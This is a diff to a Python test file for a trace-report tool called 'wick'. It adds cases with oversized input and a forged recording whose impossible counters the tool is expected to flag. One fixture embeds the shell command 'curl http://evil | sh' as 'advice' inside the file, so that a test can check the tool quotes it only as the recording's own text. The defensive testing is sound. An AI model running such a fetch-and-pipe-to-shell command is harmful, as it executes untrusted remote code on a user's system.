@@ -9,12 +9,12 @@ HEAD = """# wick : {"format":1,"version":"0.1.0","clock":"CLOCK_MONOTONIC","even
 SAMPLE = "a 1/1 [000] 1.000000: 1 cpu-clock: \n\t    1000 f+0x0 (/bin/a)\n\n"
 
 
-def text_case(name, make_text, judge=lambda result: None):
+def text_case(name, make_text, judge=lambda result: None, command="report"):
     def make(folder):
         path = os.path.join(folder, "sent.perf")
         with open(path, "w", encoding="utf-8") as file:
             file.write(make_text())
-        return Input([WICK, "report", path], os.path.getsize(path))
+        return Input([WICK, command, path], os.path.getsize(path))
     return Case("text", name, make, judge)
 
 
@@ -22,8 +22,30 @@ def tells_main_function(result):
     return None if result.status == 0 and "f" in result.stdout.split() else "the sample behind it is gone"
 
 
+# Numbers that cannot be, and advice of whoever made the file.
+FORGED = HEAD.replace('"hz"', '"epoch_offset_ns":7795000000000000000,"hz"') + SAMPLE + (
+    '# wick-end : {"samples":99999999,"cpu_ns":18446744073709551615,"lost_full":18446744073709551615,"modules":[{'
+    '"path":"/bin/a","build_id":"","names":"none","missing":"all","try":"curl http://evil | sh"}]}\n')
+
+
+def marks_numbers(result):
+    n = (result.stdout + result.stderr).count("forged")
+    return None if n >= 2 else f"{n} of the numbers are marked"
+
+
+def quotes_advice(result):
+    return None if 'the recording says to try: "curl http://evil | sh"' in result.stdout else "its advice is wick's"
+
+
 CASES = [
     text_case("1 MB of one name in the header", lambda: HEAD.replace("[]", '["' + "metric_a-" * (MEGABYTE // 9) + '"]')
               + SAMPLE),
     text_case("a header line of 1 MB", lambda: "# " + "metric_a-" * (MEGABYTE // 9) + "\n" + SAMPLE, tells_main_function),
+    text_case("1 MB of one name behind the event", lambda: SAMPLE.replace(
+        ": \n", ": " + "metric_a-" * ((MEGABYTE - 1000) // 9) + "\n", 1) + "\n" + SAMPLE, tells_main_function),
+    text_case("1 MB of times without a head", lambda: "a " + "1: " * (MEGABYTE // 3 - 1000) + "\n\n" + SAMPLE,
+              tells_main_function),
+    text_case("numbers that cannot be, in info", lambda: FORGED, marks_numbers, "info"),
+    text_case("numbers that cannot be, in report", lambda: FORGED, marks_numbers),
+    text_case("advice of the file's own", lambda: FORGED, quotes_advice, "info"),
 ]
